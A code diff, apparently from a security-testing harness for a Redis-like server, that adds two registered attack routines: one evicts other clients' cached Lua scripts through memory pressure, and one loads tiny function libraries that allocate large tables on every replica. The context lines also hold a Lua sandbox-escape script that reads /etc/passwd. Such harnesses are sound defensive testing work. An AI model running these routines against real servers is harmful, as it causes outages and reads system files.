@@ -1,5 +1,5 @@
 import { register } from '../attack.ts';
-import { brief, isError } from '../wire.ts';
+import { brief, isError, request } from '../wire.ts';
 
 const ESCAPES: ReadonlyArray<readonly [name: string, script: string]> = [
   ['io', "return io.open('/etc/passwd'):read('*a')"],
@@ -84,6 +84,56 @@ register({
       }),
     );
     return { did: `${sent} scripts; ${[...answers].slice(0, 3).join(' | ')}`, got: [] };
+  },
+});
+
+register({
+  name: 'script-garbage',
+  tries: 'scripts that use 10 MB for a moment, so that the scripts of others are forgotten',
+  as: ['application'],
+  seconds: 8,
+  async run(attacker) {
+    const got: string[] = [];
+    const [heavy, other] = (await attacker.many(2)).wires;
+    const sha = ((await other.ask('SCRIPT', 'LOAD', 'return 1')) ?? '').split('\r\n')[1];
+    const call = request('EVALSHA', sha, '1', attacker.key('s'));
+    let calls = 0;
+    while (attacker.timeLeft > 5000 && got.length === 0) {
+      await heavy.ask(
+        'EVAL',
+        'local t = {} for i = 1, 100000 do t[i] = {i} end return #t',
+        '1',
+        attacker.key('s'),
+      );
+      // the first of them cannot be sent again when more has been sent behind it
+      await other.send(Buffer.concat([call, call]));
+      for (const answer of [await other.reply(1000), await other.reply(1000)])
+        if (isError(answer)) got.push(brief(answer));
+      calls += 1;
+    }
+    for (const wire of [heavy, other]) wire.close();
+    return { did: `${calls} scripts`, got };
+  },
+});
+
+register({
+  name: 'function-memory',
+  tries:
+    'libraries of a hundred bytes that fill a table of 8 MB when they are loaded, on every member and at each start',
+  as: ['application'],
+  seconds: 20,
+  async run(attacker) {
+    const wire = await attacker.enter();
+    const answers = new Set<string>();
+    let sent = 0;
+    for (; sent < 64 && attacker.timeLeft > 4000 && !wire.closed; sent++) {
+      const table = 'local t = {} for i = 1, 500000 do t[i] = i end';
+      const library = `#!lua name=m${sent}\n${table} redis.register_function('m${sent}', function() return #t end)`;
+      answers.add(brief(await wire.ask('FUNCTION', 'LOAD', library)).replace(/\d+/g, 'N'));
+    }
+    await wire.ask('FUNCTION', 'FLUSH');
+    wire.close();
+    return { did: `${sent} libraries; ${[...answers].slice(0, 3).join(' | ')}`, got: [] };
   },
 });
 
